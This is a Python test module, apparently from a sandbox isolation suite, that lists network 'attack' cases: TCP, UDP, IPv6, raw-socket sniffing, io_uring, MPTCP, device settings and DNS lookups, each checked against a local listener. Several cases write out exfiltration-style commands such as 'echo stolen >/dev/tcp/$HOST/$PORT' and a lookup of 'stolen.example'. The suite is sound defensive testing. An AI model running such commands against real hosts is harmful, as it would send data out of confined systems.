# SPDX-License-Identifier: Apache-2.0
"""Sockets that lead out: to the host's loopback, to its addresses, to names, to its devices. A listener
outside tells what it heard."""
import shutil
import socket
import subprocess

from case import Attack
from outside import Listener, listen, says_secret, secret, was_heard

V4, V6 = ("127.0.0.1", 0), ("::1", 0)
STREAM, DATAGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM


def listening(family, kind, address):
    def arrange(run):
        listener = listen(run, family, kind, address)
        run.env.update(PORT=str(listener.port), HOST=address[0])
        return {}
    return arrange


def attack(name, script, family=socket.AF_INET, kind=STREAM, address=V4, **more):
    return Attack(name, script, listening(family, kind, address), harm=was_heard, **more)


def over_multipath(run):
    """The same port for those who speak the protocol that splits connections."""
    listener = socket.socket(socket.AF_INET, STREAM, socket.IPPROTO_MPTCP)
    listener.bind(V4)
    listener.listen(5)
    listener.setblocking(False)
    run.cleanups.append(listener.close)
    kept = Listener.__new__(Listener)
    kept.kind, kept.socket = STREAM, listener
    run.keep["listener"] = kept
    run.env.update(PORT=str(kept.port), HOST=V4[0])
    return {}


def has_multipath(_arena, _person):
    try:
        socket.socket(socket.AF_INET, STREAM, socket.IPPROTO_MPTCP).close()
        return ""
    except (OSError, AttributeError):
        return "the kernel has no MPTCP"


def has_ipv6(_arena, _person):
    try:
        with socket.socket(socket.AF_INET6, STREAM) as tried:
            tried.bind(V6)
        return ""
    except OSError:
        return "there is no IPv6 here"


def own_address(_arena, _person):
    return "" if address_of_host() else "this machine has no address but the loopback's"


def address_of_host():
    """An address of this machine that is not the loopback's."""
    said = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout.split()
    found = [word for word in said if "." in word]
    return found[0] if found else ""


def at_own_address(run):
    listener = listen(run, socket.AF_INET, STREAM, (address_of_host(), 0))
    run.env.update(PORT=str(listener.port), HOST=address_of_host())
    return {}


def uring_connects(arena, person):
    return "" if arena.asks("hold-uring", person=person).stdout.strip() == "ready" else "there is no io_uring"


def with_secret(run):
    secret(run)
    return {}


def say_aloud(run):
    """Somebody outside sends the secret to somebody outside, over the loopback."""
    with socket.socket(socket.AF_INET, DATAGRAM) as there, socket.socket(socket.AF_INET, DATAGRAM) as here:
        there.bind(V4)
        here.sendto(run.keep["secret"].encode(), there.getsockname())
    return ""


# ---- a server that somebody outside reaches ----

def free_port(run):
    with socket.socket() as probe:
        probe.bind(V4)
        run.env["PORT"] = str(probe.getsockname()[1])
    return {}


def is_reached(run):
    try:
        socket.create_connection((V4[0], int(run.env["PORT"])), 5).close()
        return "the command's server was reached from outside"
    except OSError:
        return ""


# ---- what belongs to a whole network namespace: in one that is thrown away ----

SHOW = ("unshare", "--net", "sh", "-c", '"$@"; ip link show lo', "sh")


def mtu_set(run):
    return "the device's limit was changed" if "mtu 1234 " in run.output() else ""


def has_ip(_arena, _person):
    return "" if shutil.which("ip", path="/usr/sbin:/sbin:/usr/bin:/bin") else "there is no program ip"


# A resolver of the test's own: names are asked for in namespaces that are thrown away.
RESOLVER = ("unshare", "--net", "--mount", "sh", "-c", """
ip link set lo up
echo nameserver 127.0.0.1 >"$OUT/resolv.conf"
echo options timeout:1 attempts:1 >>"$OUT/resolv.conf"
mount --bind "$OUT/resolv.conf" /etc/resolv.conf
mkfifo "$OUT/up"
python3 -c "import socket, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(('127.0.0.1', 53))
open(sys.argv[1], 'w').close()
heard = server.recv(500)
open(sys.argv[2], 'wb').write(heard)" "$OUT/up" "$OUT/heard" &
cat "$OUT/up"
"$@"
kill $!
""", "sh")


def was_asked(run):
    path = run.out / "heard"
    return f"the resolver was asked {path.read_bytes()[:60]!r}" if path.exists() else ""


CASES = [
    attack("TCP to the loopback", '"$ATTACK" tcp "$HOST" "$PORT"'),
    attack("TCP by the shell", 'bash -c "echo stolen >/dev/tcp/$HOST/$PORT"'),
    attack("TCP by python", 'python3 -c "import os, socket; socket.create_connection((os.environ[\'HOST\'], int(os.environ[\'PORT\'])))"'),
    attack("TCP with high bits set", '"$ATTACK" tcp-high-bits "$HOST" "$PORT"'),
    attack("TCP with data in its first packet", '"$ATTACK" fast-open "$HOST" "$PORT"'),
    attack("TCP to 0.0.0.0", '"$ATTACK" tcp 0.0.0.0 "$PORT"'),
    attack("TCP to 127.1.2.3", '"$ATTACK" tcp 127.1.2.3 "$PORT"', address=("127.1.2.3", 0)),
    attack("TCP with an IPv4 address in IPv6", '"$ATTACK" tcp6 "::ffff:$HOST" "$PORT"', needs=has_ipv6),
    attack("TCP over IPv6", '"$ATTACK" tcp6 "$HOST" "$PORT"', socket.AF_INET6, STREAM, V6, needs=has_ipv6),
    attack("UDP to the loopback", '"$ATTACK" udp "$HOST" "$PORT"', kind=DATAGRAM),
    attack("UDP by the shell", 'bash -c "echo stolen >/dev/udp/$HOST/$PORT"', kind=DATAGRAM),
    attack("UDP over IPv6", '"$ATTACK" udp6 "$HOST" "$PORT"', socket.AF_INET6, DATAGRAM, V6, needs=has_ipv6),
    attack("a raw socket", '"$ATTACK" raw "$HOST" "$PORT"', kind=DATAGRAM, people="root"),
    Attack("listen to what others say", '"$ATTACK" sniff', with_secret, during=say_aloud, harm=says_secret, people="root"),
    attack("a connection by io_uring", '"$ATTACK" uring-connect "$HOST" "$PORT"', needs=uring_connects),
    Attack("a multipath connection", '"$ATTACK" multipath "$HOST" "$PORT"', over_multipath, harm=was_heard, needs=has_multipath),
    Attack("TCP to an address of this machine", '"$ATTACK" tcp "$HOST" "$PORT"', at_own_address, harm=was_heard, needs=own_address),
    Attack("a server that others can reach", '"$ATTACK" serve "$PORT"', free_port, during=is_reached),
    Attack("a setting of a network device", '"$ATTACK" set-mtu 1234', harm=mtu_set, prefix=SHOW, people="root", needs=has_ip),
    Attack("a setting of a device by netlink", '"$ATTACK" set-mtu-netlink 1234', harm=mtu_set, prefix=SHOW, people="root",
           needs=has_ip),
    Attack("a question for a name", 'getent hosts stolen.example || true', harm=was_asked, prefix=RESOLVER, people="root",
           needs=has_ip),
]
